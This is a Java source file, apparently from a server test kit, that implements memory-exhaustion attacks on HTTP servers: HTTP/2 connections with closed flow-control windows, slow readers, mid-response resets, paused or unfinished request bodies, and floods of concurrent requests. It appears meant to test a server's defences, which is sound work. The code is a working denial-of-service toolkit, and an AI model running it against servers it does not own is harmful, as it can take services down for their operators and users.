package lazaret.testkit.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PushbackInputStream;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import lazaret.testkit.http2.HeaderBlockBuilder;
import lazaret.testkit.http2.Http2Client;
import lazaret.testkit.http2.Http2Frame;
import lazaret.testkit.http2.Http2Target;

/// The attacks on the memory of a server. Each runs for a bounded time and returns. A reaction of
/// the server ends only the connection concerned.
public final class MemoryAttacks {
  private static final byte[] PREFACE =
      "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
  private static final int INITIAL_WINDOW_SIZE = 4;
  private static final Duration GRACE = Duration.ofSeconds(5);
  private static final Duration LONGEST = Duration.ofMinutes(2);

  private MemoryAttacks() {}

  private interface Part {
    void run(int number) throws IOException, InterruptedException;
  }

  /// Runs parts in parallel and waits for all of them. Parts that exceed the time limit, for
  /// example because the server stopped reading, are interrupted, which closes their sockets.
  private static void all(int count, Duration limit, Part part) {
    try (ExecutorService threads = Executors.newVirtualThreadPerTaskExecutor()) {
      for (int i = 0; i < count; i++) {
        int number = i;
        threads.execute(() -> run(part, number));
      }
      threads.shutdown();
      if (!threads.awaitTermination(limit.toMillis(), TimeUnit.MILLISECONDS)) {
        threads.shutdownNow();
      }
    } catch (InterruptedException _) {
      Thread.currentThread().interrupt();
    }
  }

  private static void run(Part part, int number) {
    try {
      part.run(number);
    } catch (IOException | UncheckedIOException | AssertionError _) {
      // The server closed the connection.
    } catch (InterruptedException _) {
      Thread.currentThread().interrupt();
    }
  }

  /// Opens HTTP/2 connections with a window of 0, and sends requests on many streams.
  ///
  /// @param paths requested paths in turn
  /// @param drip bytes by which the windows are opened each second; 0 keeps them closed
  public static void closedWindows(Http2Target target, List<String> paths, Shape shape, int drip) {
    long end = System.nanoTime() + shape.time().toNanos();
    all(
        shape.connections(),
        shape.time().plus(GRACE),
        number -> {
          try (Http2Client client = target.connect()) {
            client.write(PREFACE);
            client.frame(
                Http2Frame.SETTINGS,
                0,
                0,
                (byte) 0,
                (byte) INITIAL_WINDOW_SIZE,
                (byte) 0,
                (byte) 0,
                (byte) 0,
                (byte) 0);
            for (int i = 0; i < shape.requests(); i++) {
              String path = paths.get((number * shape.requests() + i) % paths.size());
              client.request(target.at(path).get());
            }
            while (System.nanoTime() < end) {
              Thread.sleep(500);
              if (drip > 0) {
                for (int stream = 1; stream < 2 * shape.requests(); stream += 2) {
                  client.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(drip));
                }
                client.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.word(drip));
              }
              // The end of the connection is noticed when data is sent.
              client
                  .frame(
                      Http2Frame.PRIORITY, 0, 1, (byte) 0, (byte) 0, (byte) 0, (byte) 0, (byte) 0)
                  .flush();
            }
          }
        });
  }

  /// The size of an attack.
  ///
  /// @param connections number of connections opened at once
  /// @param requests number of requests on each connection
  /// @param time duration of the attack
  public record Shape(int connections, int requests, Duration time) {}

  /// Requests large responses over HTTP/1.1 and reads one byte a second of each.
  ///
  /// @param headers further lines of the request, each with CRLF at its end
  public static void slowReaders(
      Http2Target target, List<String> paths, int connections, Duration time, String headers) {
    long end = System.nanoTime() + time.toNanos();
    all(
        connections,
        time.plus(GRACE),
        number -> {
          try (Socket socket = socket(target)) {
            String path = paths.get(number % paths.size());
            send(socket, target.at(path).getHead() + headers + "\r\n");
            InputStream in = socket.getInputStream();
            while (System.nanoTime() < end && in.read() >= 0) {
              Thread.sleep(1_000);
            }
          }
        });
  }

  /// Requests large responses and resets the connections in the middle.
  public static void resets(Http2Target target, List<String> paths, int connections) {
    all(
        connections,
        LONGEST,
        number -> {
          try (Socket socket = socket(target)) {
            send(socket, target.at(paths.get(number % paths.size())).getHead() + "\r\n");
            socket.setSoTimeout(1_000);
            socket.setSoLinger(true, 0);
            socket.getInputStream().readNBytes(1_000 * (number % 7));
          }
        });
  }

  /// The way in which a body is sent.
  ///
  /// @param chunked whether its length is not announced
  /// @param pause pause after each piece of 16 KB, which a response or the end of the connection
  ///   ends
  public record Sending(boolean chunked, Duration pause) {}

  /// Posts bodies at the same time.
  ///
  /// @param body bytes to send
  /// @return the number of responses with status 200
  public static int bodies(
      Http2Target target, String token, int connections, byte[] body, Sending sending) {
    AtomicInteger good = new AtomicInteger();
    all(
        connections,
        LONGEST,
        _ -> {
          try (Socket socket = socket(target)) {
            send(
                socket,
                "POST "
                    + target.path()
                    + " HTTP/1.1\r\nHost: "
                    + target.authority()
                    + "\r\nAuthorization: Bearer "
                    + token
                    + "\r\nContent-Type: application/json\r\n"
                    + (sending.chunked()
                        ? "Transfer-Encoding: chunked"
                        : "Content-Length: " + body.length)
                    + "\r\n\r\n");
            PushbackInputStream in = new PushbackInputStream(socket.getInputStream());
            sendBody(socket, in, body, sending);
            byte[] head = in.readNBytes(12);
            if (new String(head, StandardCharsets.ISO_8859_1).endsWith(" 200")) {
              good.incrementAndGet();
            }
          }
        });
    return good.get();
  }

  /// Sends a body until its end or, if there are pauses, until the server replies.
  private static void sendBody(Socket socket, PushbackInputStream in, byte[] body, Sending sending)
      throws IOException {
    OutputStream out = socket.getOutputStream();
    int step = 16 << 10;
    for (int at = 0; at < body.length; at += step) {
      byte[] piece = Arrays.copyOfRange(body, at, Math.min(body.length, at + step));
      if (sending.chunked()) {
        out.write((Integer.toHexString(piece.length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
      }
      out.write(piece);
      if (sending.chunked()) {
        out.write("\r\n".getBytes(StandardCharsets.US_ASCII));
      }
      out.flush();
      if (sending.pause().isPositive() && replies(socket, in, sending.pause())) {
        return;
      }
    }
    if (sending.chunked()) {
      out.write("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
    }
    out.flush();
  }

  /// Waits for a response or the end of a connection.
  ///
  /// @return whether one of them came within the time
  private static boolean replies(Socket socket, PushbackInputStream in, Duration within)
      throws IOException {
    int usual = socket.getSoTimeout();
    socket.setSoTimeout(Math.toIntExact(within.toMillis()));
    try {
      int first = in.read();
      if (first >= 0) {
        in.unread(first);
      }
      return true;
    } catch (SocketTimeoutException _) {
      return false;
    } finally {
      socket.setSoTimeout(usual);
    }
  }

  /// Sends requests at the same time and reads the responses.
  public static void atOnce(Http2Target target, List<String> paths, int connections) {
    all(
        connections,
        LONGEST,
        number -> {
          try (Socket socket = socket(target)) {
            String head = target.at(paths.get(number % paths.size())).getHead();
            send(socket, head + "Connection: close\r\n\r\n");
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
          }
        });
  }

  /// Starts HTTP/2 requests whose body never ends, and closes the connections without notice.
  ///
  /// @param token token of each request; empty for none
  /// @param method `GET` or `POST`
  public static void unfinishedBodies(
      Http2Target target, Shape shape, String method, String token) {
    all(
        shape.connections(),
        shape.time().plus(GRACE),
        _ -> {
          try (Http2Client client = target.open()) {
            for (int i = 0; i < shape.requests(); i++) {
              HeaderBlockBuilder block =
                  method.equals("GET")
                      ? target.get()
                      : HeaderBlockBuilder.post(target.scheme(), target.authority(), target.path());
              block.literal(
                  HeaderBlockBuilder.Indexing.NOT_INDEXED, "content-type", "application/json");
              if (!token.isEmpty()) {
                block.literal(
                    HeaderBlockBuilder.Indexing.NOT_INDEXED, "authorization", "Bearer " + token);
              }
              int stream = client.stream();
              client.frame(Http2Frame.HEADERS, Http2Frame.END_HEADERS, stream, block.bytes());
              client.frame(Http2Frame.DATA, 0, stream, new byte[200]).flush();
            }
            Thread.sleep(shape.time());
          }
        });
  }

  /// Downloads over HTTP/2 as slow honest clients do: each opens its windows by the amount it has
  /// read.
  ///
  /// @param bytesPerSecond rate of each client
  /// @return lengths of the bodies that arrived whole
  public static List<Long> slowDownloads(Http2Target target, int connections, int bytesPerSecond) {
    List<Long> lengths = Collections.synchronizedList(new ArrayList<>());
    all(
        connections,
        LONGEST,
        _ -> {
          try (Http2Client client = target.open()) {
            int stream = client.request(target.get());
            long length = 0;
            while (true) {
              Http2Frame frame = client.read();
              if (frame == null
                  || (frame.stream() == stream && frame.type() > Http2Frame.HEADERS)) {
                return;
              }
              int read = frame.type() == Http2Frame.DATA ? frame.payload().length() : 0;
              length += read;
              if (frame.type() == Http2Frame.DATA && frame.has(Http2Frame.END_STREAM)) {
                lengths.add(length);
                return;
              }
              if (read > 0) {
                Thread.sleep(1_000L * read / bytesPerSecond);
                client.frame(Http2Frame.WINDOW_UPDATE, 0, stream, Http2Frame.word(read));
                client.frame(Http2Frame.WINDOW_UPDATE, 0, 0, Http2Frame.word(read)).flush();
              }
            }
          }
        });
    return lengths;
  }

  private static Socket socket(Http2Target target) throws IOException {
    Socket plain = new Socket();
    plain.setReceiveBufferSize(4_096);
    plain.setSoTimeout(60_000);
    target.connect(plain);
    return target.tls() == null
        ? plain
        : target.tls().getSocketFactory().createSocket(plain, target.host(), target.port(), true);
  }

  private static void send(Socket socket, String head) throws IOException {
    socket.getOutputStream().write(head.getBytes(StandardCharsets.ISO_8859_1));
    socket.getOutputStream().flush();
  }
}
